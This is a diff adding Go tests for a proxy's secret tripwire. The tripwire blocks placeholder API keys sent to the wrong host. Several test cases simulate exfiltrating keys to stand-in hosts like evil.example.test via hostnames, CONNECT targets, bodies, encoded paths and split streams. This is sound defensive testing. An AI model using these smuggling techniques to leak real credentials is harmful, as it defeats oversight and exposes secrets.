@@ -1,0 +1,452 @@
+package proxy
+
+import (
+	"bytes"
+	"context"
+	"crypto/tls"
+	"encoding/base64"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"sync/atomic"
+	"testing"
+
+	"github.com/botbox/botbox/internal/config"
+	"github.com/botbox/botbox/internal/placeholder"
+	"github.com/botbox/botbox/internal/telemetry"
+	"github.com/prometheus/client_golang/prometheus/testutil"
+)
+
+// Placeholders of the test secrets: api-key (referenced by the
+// api.example.test rule, real value "sk-test-12345") and other-key
+// (referenced by no rule the requests go to). Their shape does not matter
+// to the proxy.
+const (
+	phAPI   = "sk-test-PhAbCdEfGhIjKlMn0123456789"
+	phOther = "sk-other-QrStUvWxYz9876543210AbCd"
+)
+
+type staticTable struct{ t *placeholder.Table }
+
+func (s staticTable) Table() *placeholder.Table { return s.t }
+
+func testPlaceholders() PlaceholderSource {
+	return staticTable{placeholder.NewTable([]placeholder.Entry{
+		{Ref: "api-key", Placeholder: phAPI, Current: true},
+		{Ref: "other-key", Placeholder: phOther, Current: true},
+	})}
+}
+
+// tripEnv is newEnv with placeholders, CONNECT interception and an
+// interception listener (a TLS server running Intercepted with leaves of
+// the test CA).
+type tripEnv struct {
+	*testEnv
+	intercept *httptest.Server
+}
+
+func newTripEnv(t *testing.T, o envOpts) *tripEnv {
+	o.placeholders = testPlaceholders()
+	o.connectTLS = true
+	e := &tripEnv{testEnv: newEnv(t, o)}
+	e.intercept = httptest.NewUnstartedServer(e.handler.Intercepted())
+	e.intercept.TLS = e.connectTLS()()
+	e.intercept.StartTLS()
+	t.Cleanup(e.intercept.Close)
+	return e
+}
+
+// listeners are the ways a request reaches the pipeline: the plain
+// listener, the interception listener over HTTP/1.1 and HTTP/2, and a
+// CONNECT tunnel.
+var listeners = []string{ListenerHTTP, ListenerHTTPS, listenerHTTPSH2, ListenerConnect}
+
+// listenerHTTPSH2 is the interception listener spoken to over HTTP/2 (its
+// decision lines say "https").
+const listenerHTTPSH2 = "https-h2"
+
+// send sends req to host through listener and returns the status and body.
+func (e *tripEnv) send(listener, method, host, target string, hdr http.Header, body io.Reader, length int64) (int, string) {
+	e.t.Helper()
+	var (
+		client *http.Client
+		u      string
+	)
+	switch listener {
+	case ListenerHTTP:
+		client, u = e.plain.Client(), e.plain.URL+target
+	case ListenerHTTPS, listenerHTTPSH2:
+		addr := e.intercept.Listener.Addr().String()
+		tr := &http.Transport{
+			TLSClientConfig:   &tls.Config{RootCAs: e.ca.Pool()},
+			ForceAttemptHTTP2: listener == listenerHTTPSH2,
+			DialContext: func(ctx context.Context, network, _ string) (net.Conn, error) {
+				var d net.Dialer
+				return d.DialContext(ctx, network, addr)
+			},
+		}
+		e.t.Cleanup(tr.CloseIdleConnections)
+		client, u = &http.Client{Transport: tr}, "https://"+host+target
+	case ListenerConnect:
+		client, u = e.curlClient(false), "https://"+host+target
+	}
+	req, err := http.NewRequest(method, u, body)
+	if err != nil {
+		e.t.Fatal(err)
+	}
+	req.Host = host
+	req.ContentLength = length
+	for k, vs := range hdr {
+		req.Header[k] = vs
+	}
+	resp, err := client.Do(req)
+	if err != nil {
+		e.t.Fatalf("%s %s via %s: %v", method, host, listener, err)
+	}
+	defer resp.Body.Close()
+	b, _ := io.ReadAll(resp.Body)
+	return resp.StatusCode, string(b)
+}
+
+// assertTripped checks the alarm of one trip: 403 with its body, the
+// origin untouched, the metric, and the ERROR line.
+func (e *tripEnv) assertTripped(status int, body, listener, ref, foundIn, host string) {
+	e.t.Helper()
+	if status != http.StatusForbidden || body != bodyTripwire {
+		e.t.Fatalf("got %d %q, want 403 %q", status, body, bodyTripwire)
+	}
+	e.assertOriginUntouched()
+	if got := testutil.ToFloat64(e.metrics.SecretTripwire.WithLabelValues(ref)); got != 1 {
+		e.t.Errorf("botbox_secret_tripwire_total{secret_ref=%q} = %v, want 1", ref, got)
+	}
+	lines := e.waitDecisions(1)
+	line := lines[len(lines)-1]
+	if listener == ListenerConnect {
+		// The CONNECT's own line comes when the tunnel ends; find the request's.
+		for _, l := range lines {
+			if l["listener"] == ListenerConnect && l["event"] != nil {
+				line = l
+			}
+		}
+	}
+	if listener == listenerHTTPSH2 {
+		listener = ListenerHTTPS
+	}
+	want := map[string]any{
+		"level": "ERROR", "event": "secret_tripwire", "decision": "denied_tripwire", "reason": "secret_tripwire",
+		"host": host, "listener": listener, "found_in": foundIn, "status": float64(403),
+	}
+	for k, v := range want {
+		if line[k] != v {
+			e.t.Errorf("line[%s] = %v, want %v (line %v)", k, line[k], v, line)
+		}
+	}
+	if refs, _ := line["secret_ref"].([]any); len(refs) != 1 || refs[0] != ref {
+		e.t.Errorf("line secret_ref = %v, want [%s]", line["secret_ref"], ref)
+	}
+	if strings.Contains(e.logs.String(), "sk-test-12345") {
+		e.t.Error("the secret value is in the logs")
+	}
+}
+
+func TestTripwireHeadEveryListener(t *testing.T) {
+	basic := "Basic " + base64.StdEncoding.EncodeToString([]byte("user:"+phOther))
+	tests := []struct {
+		name    string
+		host    string // a host the CONNECT test leaves cover
+		target  string
+		hdr     http.Header
+		ref     string
+		foundIn string
+	}{
+		{"foreign placeholder in a header", "api.example.test", "/v1", http.Header{"X-Api-Key": {phOther}}, "other-key", "header"},
+		{"own placeholder to a rule without it", "bare.example.test", "/v1", http.Header{"Authorization": {"Bearer " + phAPI}}, "api-key", "header"},
+		{"placeholder in a query", "bare.example.test", "/v1?key=" + phAPI, nil, "api-key", "url"},
+		{"percent-encoded in a path", "bare.example.test", "/v1/" + strings.ReplaceAll(url.PathEscape(phAPI), "s", "%73"), nil, "api-key", "url"},
+		{"websocket upgrade", "bare.example.test", "/ws", http.Header{"Connection": {"Upgrade"}, "Upgrade": {"websocket"}, "Sec-Websocket-Protocol": {phAPI}}, "api-key", "header"},
+		{"base64 in basic auth", "api.example.test", "/v1", http.Header{"Proxy-Authorization": {basic}}, "other-key", "header"},
+		{"placeholder in a header name", "bare.example.test", "/v1", http.Header{"X-" + phAPI: {"1"}}, "api-key", "header"},
+	}
+	for _, tt := range tests {
+		for _, l := range listeners {
+			t.Run(tt.name+"/"+l, func(t *testing.T) {
+				e := newTripEnv(t, envOpts{})
+				status, body := e.send(l, http.MethodGet, tt.host, tt.target, tt.hdr, nil, 0)
+				e.assertTripped(status, body, l, tt.ref, tt.foundIn, tt.host)
+			})
+		}
+	}
+}
+
+// TestTripwireAnyPolicy: the tripwire fires under default_action allow, for
+// a denied host, and in report mode (never a report-only event).
+func TestTripwireAnyPolicy(t *testing.T) {
+	for _, tc := range []struct {
+		name, action, host string
+	}{
+		{"default allow", "allow", "anything.example.test"},
+		{"denied host", "deny", "evil.example.test"},
+		{"deny rule", "deny", "blocked.example.test"},
+		{"report mode, denied host", "deny", "evil.example.test"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			e := newTripEnv(t, envOpts{defaultAction: tc.action})
+			if strings.HasPrefix(tc.name, "report") {
+				// mode sits in egress_policy, where newEnv's template has no
+				// slot: install it as a reload would.
+				e.usePolicyMode("report")
+			}
+			status, body := e.send(ListenerHTTP, http.MethodGet, tc.host, "/x", http.Header{"Authorization": {"Bearer " + phAPI}}, nil, 0)
+			e.assertTripped(status, body, ListenerHTTP, "api-key", "header", tc.host)
+		})
+	}
+}
+
+// usePolicyMode installs testConfig with egress_policy.mode set.
+func (e *testEnv) usePolicyMode(mode string) {
+	e.t.Helper()
+	y := fmt.Sprintf(testConfig, e.secretDir, "", "deny")
+	y = strings.Replace(y, "  default_action: deny\n", "  default_action: deny\n  mode: "+mode+"\n", 1)
+	cfg, err := config.Parse([]byte(y))
+	if err != nil {
+		e.t.Fatal(err)
+	}
+	if _, err := e.handler.gen.Store(cfg); err != nil {
+		e.t.Fatal(err)
+	}
+}
+
+func TestTripwireHostName(t *testing.T) {
+	e := newTripEnv(t, envOpts{defaultAction: "allow"})
+	host := strings.ToLower(phOther) + ".evil.example.test"
+	status, body := e.send(ListenerHTTP, http.MethodGet, host, "/", nil, nil, 0)
+	e.assertTripped(status, body, ListenerHTTP, "other-key", "host", host)
+}
+
+func TestTripwireConnectTarget(t *testing.T) {
+	e := newTripEnv(t, envOpts{})
+	host := strings.ToLower(phOther) + ".evil.example.test"
+	resp, body := e.raw("CONNECT " + host + ":443 HTTP/1.1\r\nHost: " + host + ":443\r\n\r\n")
+	e.assertTripped(resp.StatusCode, body, ListenerHTTP, "other-key", "host", host)
+}
+
+// TestTripwireBodyKnownLength: a placeholder within the first 64 KiB of a
+// body of known length trips before anything goes upstream, in any
+// spelling; a clean body (larger than the scanned part) arrives intact.
+func TestTripwireBodyKnownLength(t *testing.T) {
+	jsonBody := `{"messages":[{"role":"user","content":"my key is ` + phOther + `"}]}`
+	form := "a=1&key=" + url.QueryEscape(phOther)
+	b64 := `{"blob":"` + base64.StdEncoding.EncodeToString([]byte("xx"+phOther+"yy")) + `"}`
+	late := strings.Repeat("a", 60<<10) + phOther // ends inside the first 64 KiB
+	for name, body := range map[string]string{"json": jsonBody, "form": form, "base64": b64, "at 60 KiB": late} {
+		for _, l := range listeners {
+			t.Run(name+"/"+l, func(t *testing.T) {
+				e := newTripEnv(t, envOpts{})
+				status, resp := e.send(l, http.MethodPost, "api.example.test", "/v1", nil, strings.NewReader(body), int64(len(body)))
+				e.assertTripped(status, resp, l, "other-key", "body", "api.example.test")
+			})
+		}
+	}
+	t.Run("clean body forwarded intact", func(t *testing.T) {
+		for _, l := range listeners {
+			e := newTripEnv(t, envOpts{})
+			var got atomic.Pointer[[]byte]
+			e.originMux.HandleFunc("/upload", func(w http.ResponseWriter, r *http.Request) {
+				b, _ := io.ReadAll(r.Body)
+				got.Store(&b)
+			})
+			want := bytes.Repeat([]byte("0123456789abcdef"), 10_000) // 160 KB
+			// The own placeholder in the body goes to its own host as is.
+			copy(want[1000:], phAPI)
+			status, _ := e.send(l, http.MethodPost, "api.example.test", "/upload", nil, bytes.NewReader(want), int64(len(want)))
+			if status != http.StatusOK {
+				t.Fatalf("%s: status %d", l, status)
+			}
+			if b := got.Load(); b == nil || !bytes.Equal(*b, want) {
+				t.Fatalf("%s: origin got a different body", l)
+			}
+		}
+	})
+}
+
+// slowBody yields its parts one Read at a time.
+type slowBody struct{ parts [][]byte }
+
+func (s *slowBody) Read(p []byte) (int, error) {
+	if len(s.parts) == 0 {
+		return 0, io.EOF
+	}
+	n := copy(p, s.parts[0])
+	s.parts[0] = s.parts[0][n:]
+	if len(s.parts[0]) == 0 {
+		s.parts = s.parts[1:]
+	}
+	return n, nil
+}
+
+// TestTripwireStreamedBody: a body of unknown length is scanned as it
+// streams; a placeholder split across two writes at every position is
+// found, the upstream request never completes, and the agent gets 403.
+func TestTripwireStreamedBody(t *testing.T) {
+	for _, h2 := range []bool{false, true} {
+		for split := 1; split < len(phOther); split += 7 {
+			t.Run(fmt.Sprintf("h2=%v/split=%d", h2, split), func(t *testing.T) {
+				e := newTripEnv(t, envOpts{http2Origin: h2})
+				var complete atomic.Int64
+				var leaked atomic.Bool
+				e.originMux.HandleFunc("/stream", func(w http.ResponseWriter, r *http.Request) {
+					b, err := io.ReadAll(r.Body)
+					if bytes.Contains(b, []byte(phOther)) {
+						leaked.Store(true)
+					}
+					if err == nil {
+						complete.Add(1)
+					}
+				})
+				body := &slowBody{parts: [][]byte{[]byte("prefix " + phOther[:split]), []byte(phOther[split:] + " suffix")}}
+				status, resp := e.send(ListenerHTTP, http.MethodPost, "api.example.test", "/stream", nil, body, -1)
+				if status != http.StatusForbidden || resp != bodyTripwire {
+					t.Fatalf("got %d %q, want 403", status, resp)
+				}
+				if got := testutil.ToFloat64(e.metrics.SecretTripwire.WithLabelValues("other-key")); got != 1 {
+					t.Errorf("tripwire metric = %v", got)
+				}
+				line := e.waitDecisions(1)[0]
+				if line["level"] != "ERROR" || line["event"] != "secret_tripwire" || line["decision"] != "denied_tripwire" || line["found_in"] != "body" {
+					t.Errorf("line = %v", line)
+				}
+				if complete.Load() != 0 || leaked.Load() {
+					t.Errorf("origin got the body complete (%d) or the placeholder whole (%v)", complete.Load(), leaked.Load())
+				}
+			})
+		}
+	}
+}
+
+// TestPlaceholderSwap: on the rule that references the secret, the
+// placeholder in headers and the query arrives as the real value; the
+// rule's header_rewrites work unchanged; nothing trips.
+func TestPlaceholderSwap(t *testing.T) {
+	for _, l := range listeners {
+		t.Run(l, func(t *testing.T) {
+			e := newTripEnv(t, envOpts{})
+			hdr := http.Header{
+				"Authorization": {"Bearer " + phAPI},
+				"X-Api-Key":     {phAPI},
+				"X-Basic":       {"Basic " + base64.StdEncoding.EncodeToString([]byte("u:"+phAPI))},
+			}
+			status, _ := e.send(l, http.MethodGet, "api.example.test", "/v1?key="+phAPI+"&x=1", hdr, nil, 0)
+			if status != http.StatusOK {
+				t.Fatalf("status %d", status)
+			}
+			seen := e.lastSeen()
+			if got := seen.Header.Get("Authorization"); got != "Bearer sk-test-12345" {
+				t.Errorf("Authorization = %q", got)
+			}
+			if got := seen.Header.Get("X-Api-Key"); got != "sk-test-12345" {
+				t.Errorf("X-Api-Key = %q, want the real value", got)
+			}
+			if got := seen.Header.Get("X-Basic"); got != "Basic "+base64.StdEncoding.EncodeToString([]byte("u:sk-test-12345")) {
+				t.Errorf("X-Basic = %q", got)
+			}
+			if seen.Header.Get("X-Static") != "static-value" {
+				t.Error("header_rewrites no longer applied")
+			}
+			if seen.Path != "/v1?key=sk-test-12345&x=1" {
+				t.Errorf("path = %q", seen.Path)
+			}
+			if got := testutil.ToFloat64(e.metrics.SecretTripwire.WithLabelValues("api-key")); got != 0 {
+				t.Errorf("tripwire fired on the own host: %v", got)
+			}
+		})
+	}
+}
+
+// TestTripwireOffWithoutPlaceholders: no Options.Placeholders, no scan.
+func TestTripwireOffWithoutPlaceholders(t *testing.T) {
+	e := newEnv(t, envOpts{})
+	resp, _ := e.get("api.example.test", "/v1", http.Header{"X-Api-Key": {phOther}})
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("status %d", resp.StatusCode)
+	}
+}
+
+// BenchmarkServePlainPlaceholders is BenchmarkServePlain with placeholders
+// off, on (two placeholders, a request carrying none: the full head scan)
+// and on with the request's own placeholder to swap (docs/performance.md,
+// "Placeholders").
+func BenchmarkServePlainPlaceholders(b *testing.B) {
+	for _, v := range []struct {
+		name string
+		src  PlaceholderSource
+		hdr  string
+	}{
+		{"ph=off", nil, ""},
+		{"ph=on", testPlaceholders(), ""},
+		{"ph=on,swap", testPlaceholders(), "X-Api-Key: " + phAPI + "\r\n"},
+	} {
+		b.Run(v.name, func(b *testing.B) {
+			h := newBenchHandler(b, cannedTransport{}, 8443, "")
+			h.placeholders = v.src
+			raw := strings.Replace(fmt.Sprintf(benchReq, "api.example.test"), "\r\n\r\n", "\r\n"+v.hdr+"\r\n", 1)
+			serveLoop(b, h.Plain(), parsedRequest(b, raw))
+		})
+	}
+}
+
+// TestScanningBodyEverySplit: a placeholder split across two reads of a
+// streamed body, at every position, fails the read that completes it,
+// and no read before it returns the whole placeholder.
+func TestScanningBodyEverySplit(t *testing.T) {
+	h := &Handler{metrics: telemetry.NewMetrics()}
+	tab := testPlaceholders().Table()
+	for split := 0; split <= len(phOther); split++ {
+		x := &exchange{}
+		x.tw.table = tab
+		parts := [][]byte{[]byte("head " + phOther[:split]), []byte(phOther[split:] + " tail")}
+		b := &scanningBody{ReadCloser: io.NopCloser(&slowBody{parts: parts}), h: h, x: x, keep: tab.MaxLen() - 1}
+		var got []byte
+		var err error
+		buf := make([]byte, 1024)
+		for err == nil {
+			var n int
+			n, err = b.Read(buf)
+			got = append(got, buf[:n]...)
+		}
+		if _, ok := errors.AsType[*tripwireError](err); !ok {
+			t.Fatalf("split %d: err = %v, want the tripwire", split, err)
+		}
+		if bytes.Contains(got, []byte(phOther)) {
+			t.Fatalf("split %d: the placeholder was returned whole", split)
+		}
+		if info := x.tw.trip.Load(); info == nil || info.ref != "other-key" || info.foundIn != "body" {
+			t.Fatalf("split %d: trip = %+v", split, info)
+		}
+	}
+	// The own secret's placeholder passes, and so does everything after
+	// the first 64 KiB.
+	x := &exchange{}
+	x.tw.table, x.tw.refs = tab, []string{"api-key"}
+	late := append(bytes.Repeat([]byte("a"), tripwireBodyScan), phOther...)
+	body := append([]byte(phAPI+" "), late...)
+	b := &scanningBody{ReadCloser: io.NopCloser(bytes.NewReader(body)), h: h, x: x, keep: tab.MaxLen() - 1}
+	got, err := io.ReadAll(b)
+	if err != nil || !bytes.Equal(got, body) {
+		t.Fatalf("clean body: err %v, %d of %d bytes", err, len(got), len(body))
+	}
+}
+
+// TestTripwireReportModeBody: in report mode a denied request is
+// forwarded, but not with a placeholder in its body.
+func TestTripwireReportModeBody(t *testing.T) {
+	e := newTripEnv(t, envOpts{})
+	e.usePolicyMode("report")
+	body := `{"key":"` + phAPI + `"}`
+	status, resp := e.send(ListenerHTTP, http.MethodPost, "evil.example.test", "/x", nil, strings.NewReader(body), int64(len(body)))
+	e.assertTripped(status, resp, ListenerHTTP, "api-key", "body", "evil.example.test")
+}
